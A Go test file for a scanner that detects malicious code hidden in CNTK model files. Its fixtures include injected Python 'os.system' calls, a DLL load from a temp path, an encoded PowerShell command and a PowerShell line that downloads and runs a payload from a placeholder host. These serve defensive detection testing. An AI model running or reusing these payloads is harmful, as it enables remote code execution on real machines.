package cntk_test

import (
	"os"
	"strings"
	"testing"

	"modelwall/scan"
	"modelwall/scan/cntk"
	. "modelwall/scan/internal/pb/pbtest"
	"modelwall/scan/scantest"
)

func entry(key string, value ...[]byte) []byte {
	return Sub(2, Str(1, key), Sub(2, Int(1, 1), Msg(value...)))
}

func text(key, value string) []byte { return entry(key, Int(2, 7), Str(8, value)) }

// dictionary is the value of an entry.
func dictionary(entries ...[]byte) []byte { return Sub(12, Int(1, 1), Msg(entries...)) }

func model(functions ...[]byte) []byte {
	var vector []byte
	for _, f := range functions {
		vector = append(vector, Sub(1, Int(1, 1), f)...)
	}
	return Msg(Int(1, 1), text("type", "CompositeFunction"), entry("version", Int(5, 2)), text("uid", "CompositeFunction1"), entry("primitive_functions", Sub(11, vector)))
}

// function is a user-defined one, with the entries of its state.
func function(state ...[]byte) []byte {
	return dictionary(text("type", "UserDefinedFunction"), entry("user_defined_state", dictionary(state...)))
}

func utf16(s string) string {
	return strings.Join(strings.Split(s, ""), "\x00") + "\x00"
}

func TestScan(t *testing.T) {
	const suspicious, malicious = scan.SeveritySuspicious, scan.SeverityMalicious
	damaged := func(behind string) []byte {
		return []byte("\x08\x01\x12\x11\x0a\x07version\x12\x06\x08\x01\x10\x03(\x02\x12\x09\x0a\x03uid\x12\x02ab " + behind)
	}
	legacy := func(content string) []byte {
		return []byte(utf16("BCN") + "\x00\x00" + utf16("BVersion") + "\x00\x00" + content)
	}
	scantest.Run(t, cntk.New(), []scantest.Sample{
		{Name: "plain", Data: model(dictionary(entry("op", Int(5, 17)), text("uid", "Times1")))},
		{Name: "version 1", Data: legacy("nodes")},
		{Name: "code for a module", Data: model(function(text("module", "os import system; system('id') #"), text("class", "X"))), Worst: malicious},
		{Name: "code for a class", Data: model(function(text("module", "os"), text("class", "system; system('id')"))), Worst: malicious},
		{Name: "Python class", Data: model(function(text("class", "MySigmoid"), text("module", "my.layers"), text("op_name", "x"))), Worst: suspicious},
		{Name: "library by path", Data: model(function(text("module", `C:\temp\evil.dll`), text("deserialize_method", "f"))), Worst: malicious},
		{Name: "library by name", Data: model(function(text("module", "Extension.so"), text("deserialize_method", "f"))), Worst: suspicious},
		{Name: "command in version 1", Data: legacy(utf16("powershell -enc AAAA")), Worst: suspicious},
		{Name: "cut short", Data: model(dictionary(text("a", "b")))[:120], Err: scan.ErrMalformed},
		{Name: "damaged, with harmless words", Data: damaged("exec_summary network_score model_path=/models/base"), Err: scan.ErrForeign},
		{Name: "damaged, with a command", Data: damaged("loadlibrary C:\\x.dll powershell -c iwr http://host/p | iex"), Worst: suspicious, Err: scan.ErrForeign},
		{Name: "another message", Data: Msg(Int(1, 1), Sub(2, Sub(2, Sub(1, Str(1, "x"), Str(2, "Const"))))), Err: scan.ErrForeign},
	})
}

const corpus = "../../../shared/corpus"

func TestCorpus(t *testing.T) {
	if _, err := os.Stat(corpus); err != nil {
		t.Skip("the sample corpus is not here")
	}
	seen := 0
	for _, e := range scantest.Corpus(t, corpus) {
		if e.Format != "cmf" && e.Format != "dnn" {
			continue
		}
		data, err := os.ReadFile(e.Path)
		if err != nil {
			t.Fatal(err)
		}
		seen++
		r, _ := scantest.Scan(cntk.New(), e.Path, data)
		if !cntk.New().Match(scantest.Probe(e.Path, data)) || (r.Worst() >= scan.SeveritySuspicious) != (e.Label != "benign") {
			t.Errorf("%s is %s: %+v", e.Path, e.Label, r.Findings)
		}
	}
	if seen < 3 {
		t.Errorf("%d samples", seen)
	}
}

func FuzzScan(f *testing.F) {
	f.Add(model(function(text("module", "os; x"), text("class", "X"))))
	f.Fuzz(func(t *testing.T, data []byte) { scantest.Fuzz(t, cntk.New(), data) })
}
